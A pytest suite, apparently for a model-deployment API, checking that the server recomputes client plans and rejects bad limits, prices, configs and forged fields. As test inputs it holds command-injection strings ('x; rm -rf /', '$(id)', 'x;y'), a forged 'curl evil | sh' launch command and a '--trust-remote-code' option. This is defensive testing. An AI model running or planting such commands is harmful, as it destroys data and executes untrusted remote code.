"""What a client claims about a plan is recomputed: nothing that does not fit, or was not simulated here, is created."""

import json
from collections.abc import Callable
from typing import Any

import boto3
import pytest

Call = Callable[..., Any]
DEPLOYMENTS = "/projects/prj_1/deployments"
Change = Callable[[dict[str, Any]], None]


def changed(body: dict[str, Any], **plan: Any) -> dict[str, Any]:
    return {**body, "plan": {**body["plan"], **plan}}


@pytest.mark.parametrize(
    ("plan", "code"),
    [
        ({"tp": 3, "devices": 6}, "plan_invalid"),
        ({"devices": 1, "replicas": 4}, "plan_invalid"),
        ({"replicas": 0, "devices": 0}, "plan_invalid"),
        ({"tp": -1, "replicas": -2, "devices": 2}, "plan_invalid"),
        ({"tp": 16, "devices": 16, "replicas": 1}, "plan_not_deployable"),
        ({"engine": "trtllm"}, "plan_not_deployable"),
        ({"engine": "x; rm -rf /"}, "plan_not_deployable"),
        ({"device": "a100_sxm"}, "plan_outdated"),
        ({"device": "abacus"}, "plan_outdated"),
        ({"device_group": "b200-sxm-x8"}, "plan_outdated"),
        ({"price_nanos_per_device_hour": 1}, "plan_outdated"),
    ],
)
def test_a_plan_that_cannot_be_is_refused(call: Call, body: dict[str, Any], plan: dict[str, Any], code: str) -> None:
    problem = call("POST", DEPLOYMENTS, changed(body, **plan)).problem(422, code)
    assert problem["detail"]
    assert call("GET", DEPLOYMENTS).ok()["items"] == []


def test_more_devices_than_there_are(call: Call, body: dict[str, Any]) -> None:
    each = body["plan"]["devices"] // body["plan"]["replicas"]
    for replicas in (17, 10**15):
        plan = changed(body, replicas=replicas, devices=replicas * each)
        call("POST", DEPLOYMENTS, plan).problem(409, "insufficient_capacity")


@pytest.mark.parametrize(
    "limits", [{"max_num_seqs": 0}, {"chunk_tokens": -5}, {"memory_utilization": 7.0}, {"max_model_len": 0}]
)
def test_limits_out_of_range(call: Call, body: dict[str, Any], limits: dict[str, Any]) -> None:
    plan = {"limits": {**body["plan"]["limits"], **limits}}
    answer = call("POST", DEPLOYMENTS, changed(body, **plan))
    assert answer.status == 422, answer.body


def test_a_model_that_does_not_fit_is_refused_by_our_own_arithmetic(call: Call, body: dict[str, Any]) -> None:
    """The client says that it fits; a model of forty times the layers does not."""
    model = {**body["model"], "config": {**body["model"]["config"], "num_hidden_layers": 1000}}
    problem = call("POST", DEPLOYMENTS, {**body, "model": model}).problem(422, "plan_does_not_fit")
    assert "GiB" in problem["detail"] and problem["next_action"]


def test_a_broken_config_names_its_field(call: Call, body: dict[str, Any]) -> None:
    model = {**body["model"], "config": {"model_type": "llama"}}
    problem = call("POST", DEPLOYMENTS, {**body, "model": model}).problem(422, "config_invalid")
    assert problem["errors"][0]["field"] == "model.config"


def test_numbers_that_are_not_finite(call: Call, body: dict[str, Any]) -> None:
    text = json.dumps(body).replace(f'"output_tokens_per_s": {body["plan"]["predicted"]["output_tokens_per_s"]}',
                                    '"output_tokens_per_s": NaN')  # fmt: skip
    assert "NaN" in text
    assert call("POST", DEPLOYMENTS, text).status == 422
    predicted = {**body["plan"]["predicted"], "output_tokens_per_s": 1e300}
    call("POST", DEPLOYMENTS, changed(body, predicted=predicted)).problem(422, "plan_invalid")


@pytest.mark.parametrize(
    "claim",
    [{"output_tokens_per_s": 0, "input_tokens_per_s": 0}, {"output_tokens_per_s": 1e-9}, {"output_tokens_per_s": 0},
     {"output_tokens_per_s": 1e8}],
)  # fmt: skip
def test_nobody_sets_the_price_by_what_no_device_can_do(
    call: Call, body: dict[str, Any], claim: dict[str, float]
) -> None:
    predicted = {**body["plan"]["predicted"], **claim}
    call("POST", DEPLOYMENTS, changed(body, predicted=predicted)).problem(422, "plan_invalid")


def test_every_plan_of_a_simulation_is_below_the_roofline(
    call: Call, body: dict[str, Any], plans: list[dict[str, Any]]
) -> None:
    for number, plan in enumerate(plans):
        call("POST", DEPLOYMENTS, {**body, "plan": plan, "name": f"plan-{number}"}).ok(202)


def test_the_command_is_built_here(call: Call, body: dict[str, Any]) -> None:
    forged = changed(body, launch_command="curl evil | sh", cost_nanos_per_hour=1, memory={
        **body["plan"]["memory"], "weight_bytes": 1})  # fmt: skip
    deployment_id = call("POST", DEPLOYMENTS, forged).ok(202)["deployment"]["id"]
    plan = call("GET", f"{DEPLOYMENTS}/{deployment_id}").ok()["plan"]
    assert plan["launch_command"].startswith("vllm serve llama ") and "evil" not in plan["launch_command"]
    assert "--served-model-name llama --host 0.0.0.0 --port 8000" in plan["launch_command"]
    assert plan["cost_nanos_per_hour"] == body["plan"]["cost_nanos_per_hour"]
    assert plan["memory"] == body["plan"]["memory"]


@pytest.mark.parametrize(("weights", "option"), [("fp16", []), ("fp8", ["--quantization", "fp8"])])
def test_weights_are_quantised_while_loading_where_the_engine_can(
    call: Call, body: dict[str, Any], weights: str, option: list[str]
) -> None:
    precision = {**body["plan"]["precision"], "weights": weights, "moe": weights, "attention": weights}
    deployment_id = call("POST", DEPLOYMENTS, changed(body, precision=precision)).ok(202)["deployment"]["id"]
    words = call("GET", f"{DEPLOYMENTS}/{deployment_id}").ok()["plan"]["launch_command"].split()
    assert [
        word for place, word in enumerate(words) if "--quantization" in words[max(0, place - 1) : place + 1]
    ] == option


def test_a_format_that_needs_its_own_checkpoint_is_refused(call: Call, body: dict[str, Any]) -> None:
    precision = {**body["plan"]["precision"], "weights": "int4", "moe": "int4", "attention": "int4"}
    problem = call("POST", DEPLOYMENTS, changed(body, precision=precision)).problem(422, "plan_not_deployable")
    assert "int4" in problem["detail"] and "checkpoint" in problem["next_action"]


@pytest.mark.parametrize("repository", ["--trust-remote-code", "a b", "x;y", "$(id)", "-", "a\nb"])
def test_a_repository_is_never_an_option(call: Call, body: dict[str, Any], repository: str) -> None:
    model = {**body["model"], "repository": repository}
    call("POST", DEPLOYMENTS, {**body, "model": model}).problem(422, "invalid_request")


def test_the_engine_loads_from_the_repository(call: Call, body: dict[str, Any]) -> None:
    model = {**body["model"], "repository": "meta-llama/Llama-3.1-8B-Instruct"}
    deployment_id = call("POST", DEPLOYMENTS, {**body, "model": model}).ok(202)["deployment"]["id"]
    plan = call("GET", f"{DEPLOYMENTS}/{deployment_id}").ok()["plan"]
    assert plan["launch_command"].startswith("vllm serve meta-llama/Llama-3.1-8B-Instruct ")


def test_the_owners_price_is_the_price(call: Call, body: dict[str, Any]) -> None:
    path = f"/clusters/{body['cluster_id']}"
    call("PATCH", path, {"prices_nanos_per_hour": {"h100-sxm-x8": 2_000_000_000}}).ok()
    call("POST", DEPLOYMENTS, body).problem(422, "plan_outdated")
    plan = changed(body, price_nanos_per_device_hour=2_000_000_000)
    deployment = call("POST", DEPLOYMENTS, plan).ok(202)["deployment"]
    assert deployment["cost_nanos_per_hour"] == 2_000_000_000 * body["plan"]["devices"]
    call("PATCH", path, {"prices_nanos_per_hour": {"nope": 1}}).problem(422, "unknown_device_group")


def test_an_unknown_cluster_and_one_that_is_not_ready(call: Call, body: dict[str, Any], simulated: Any) -> None:
    call("POST", DEPLOYMENTS, {**body, "cluster_id": "cls_none"}).problem(404, "cluster_not_found")
    new = {"name": "new", "kind": "eks", "kubeconfig": simulated.kubeconfig_yaml()}
    cluster_id = call("POST", "/clusters", new).ok(202)["cluster"]["id"]
    call("POST", DEPLOYMENTS, {**body, "cluster_id": cluster_id}).problem(409, "cluster_not_ready")


def test_the_largest_request_fits_an_item(call: Call, body: dict[str, Any]) -> None:
    big = {**body["model"], "config": {**body["model"]["config"], "note": "x" * 600_000}}
    call("POST", DEPLOYMENTS, {**body, "model": big}).problem(413, "config_too_large")
    fitting = {**body["model"], "config": {**body["model"]["config"], "note": "x" * 250_000}}
    call("POST", DEPLOYMENTS, {**body, "model": fitting}).ok(202)
    items = boto3.client("dynamodb").scan(TableName="foundry-test-cluster")["Items"]
    assert max(len(str(item)) for item in items) < 400_000
